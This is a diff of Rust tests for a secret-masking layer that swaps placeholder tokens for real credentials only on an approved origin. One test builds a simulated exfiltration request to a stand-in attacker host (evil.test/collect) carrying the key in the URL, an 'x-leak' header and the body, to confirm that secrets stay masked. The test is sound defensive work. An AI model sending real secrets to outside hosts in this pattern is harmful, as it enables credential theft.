@@ -47,11 +47,11 @@ fn package_and_connection() -> (Arc<Package>, Connection, tempfile::TempDir) {
     (Arc::new(package), connection, dir)
 }
 
-fn credentials() -> (SendCredentials, Connection, tempfile::TempDir) {
+fn credentials() -> (SendCredentials, IndexMap<String, String>, tempfile::TempDir) {
     let (package, connection, dir) = package_and_connection();
     let mut credentials = SendCredentials::new(package, &connection, None);
     credentials.set_origin(&"https://api.example.com/v1/a".parse().unwrap());
-    let masked = credentials.masked_connection();
+    let masked = credentials.masked_values();
     (credentials, masked, dir)
 }
 
@@ -63,7 +63,7 @@ fn get(url: &str) -> http::Request<Bytes> {
 fn the_code_sees_placeholders_not_secrets() {
     let (_, masked, _dir) = credentials();
     for (name, secret) in [("api_key", KEY), ("signing", SIGNING), ("broken", BROKEN)] {
-        let shown = masked.value(name).unwrap();
+        let shown = masked[name].as_str();
         assert!(shown.starts_with("sluice-secret-"), "{shown}");
         assert!(!shown.contains(secret));
     }
@@ -101,7 +101,7 @@ fn a_header_the_code_set_is_kept() {
 #[test]
 fn placeholders_are_filled_encoded_for_where_they_stand() {
     let (credentials, masked, _dir) = credentials();
-    let (key, signing) = (masked.value("api_key").unwrap(), masked.value("signing").unwrap());
+    let (key, signing) = (masked["api_key"].as_str(), masked["signing"].as_str());
 
     let mut request = get(&format!("https://api.example.com/v1/a?key={key}&sig={signing}"));
     request.headers_mut().insert("x-signature", format!("Key {key}").parse().unwrap());
@@ -133,7 +133,7 @@ fn placeholders_are_filled_encoded_for_where_they_stand() {
 #[test]
 fn a_body_that_is_not_text_keeps_its_other_bytes() {
     let (credentials, masked, _dir) = credentials();
-    let key = masked.value("api_key").unwrap();
+    let key = masked["api_key"].as_str();
     let mut body = vec![0xff, 0x00, 0xfe];
     body.extend_from_slice(key.as_bytes());
     body.push(0x80);
@@ -151,7 +151,7 @@ fn a_body_that_is_not_text_keeps_its_other_bytes() {
 #[test]
 fn placeholders_stay_placeholders_on_the_way_to_another_origin() {
     let (credentials, masked, _dir) = credentials();
-    let key = masked.value("api_key").unwrap();
+    let key = masked["api_key"].as_str();
     let url = format!("https://evil.test/collect?key={key}");
     let mut request = http::Request::post(url.as_str()).body(Bytes::from(key.to_string())).unwrap();
     request.headers_mut().insert("x-leak", key.parse().unwrap());
@@ -164,7 +164,7 @@ fn placeholders_stay_placeholders_on_the_way_to_another_origin() {
 #[test]
 fn a_secret_that_cannot_stand_in_a_header_is_a_clean_error() {
     let (credentials, masked, _dir) = credentials();
-    let broken = masked.value("broken").unwrap();
+    let broken = masked["broken"].as_str();
     let mut request = get("https://api.example.com/v1/a");
     request.headers_mut().insert("x-signature", broken.parse().unwrap());
     let error = credentials.apply(&mut request).unwrap_err();
